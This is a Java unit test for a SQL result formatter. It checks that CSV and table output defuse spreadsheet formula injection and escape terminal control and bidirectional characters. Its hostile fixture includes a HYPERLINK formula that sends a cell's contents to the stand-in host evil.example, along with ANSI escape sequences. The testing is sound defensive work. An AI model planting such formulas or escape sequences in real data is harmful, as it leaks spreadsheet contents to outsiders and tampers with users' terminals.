package fugong.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** What {@code fugong sql} prints can neither run as a spreadsheet formula nor drive a terminal. */
class ResultFormatterTest {
  private static final String ESC = "\u001b";

  /**
   * A text column, a numeric one; the text cells are what a hostile inbox could put into the lake.
   */
  private static final QueryResult HOSTILE =
      new QueryResult(
          List.of("enterprise_name", "change"),
          List.of(true, false),
          List.of(
              List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "-3"),
              List.of("+1+1", "2"),
              List.of("-2+3", "-0.5"),
              List.of("@SUM(A1:A9)", "0"),
              List.of("\t=1", "1"),
              List.of("\r=1", "1"),
              List.of(ESC + "[31m红色" + ESC + "[0m", "1"),
              List.of("衡水市某某有限公司", "1")),
          0);

  @Test
  void csvNeutralisesFormulasInTextCellsAndKeepsNegativeNumbers() {
    String csv = ResultFormatter.render(HOSTILE, ResultFormatter.Format.CSV);

    assertThat(csv.lines().toList())
        .containsExactly(
            "enterprise_name,change",
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\",-3",
            "'+1+1,2",
            "'-2+3,-0.5",
            "'@SUM(A1:A9),0",
            "'\\u0009=1,1",
            "'\\u000d=1,1",
            "\\u001b[31m红色\\u001b[0m,1",
            "衡水市某某有限公司,1");
    assertThat(csv).doesNotContain(ESC).doesNotContain("\r").doesNotContain("\t");
  }

  @Test
  void tableShowsControlCharactersAsVisibleEscapes() {
    String table = ResultFormatter.render(HOSTILE, ResultFormatter.Format.TABLE);

    assertThat(table).doesNotContain(ESC).doesNotContain("\r").doesNotContain("\t");
    assertThat(table)
        .contains("\\u001b[31m红色\\u001b[0m")
        .contains("'=HYPERLINK(")
        .contains("(8 rows)");
    assertThat(table.lines().filter(line -> line.startsWith("'-2+3")).findFirst().orElseThrow())
        .matches("'-2\\+3 +\\| +-0\\.5");
  }

  @Test
  void lineBreaksDelAndBidirectionalOverridesAreEscapedToo() {
    assertThat(ResultFormatter.visible("a\nb\u007fc\u202ed\u2066e\u0085f"))
        .isEqualTo("a\\u000ab\\u007fc\\u202ed\\u2066e\\u0085f");
    assertThat(ResultFormatter.visible("复工率 0.95")).isEqualTo("复工率 0.95");
  }

  @Test
  void aCutResultSaysSoUnderTheTable() {
    QueryResult cut =
        new QueryResult(List.of("n"), List.of(false), List.of(List.of("1"), List.of("2")), 2);
    assertThat(ResultFormatter.render(cut, ResultFormatter.Format.TABLE))
        .endsWith("(2 rows; cut at sql.max_rows = 2, more rows were left out)\n");
    assertThat(ResultFormatter.render(cut, ResultFormatter.Format.CSV)).isEqualTo("n\n1\n2\n");
  }
}
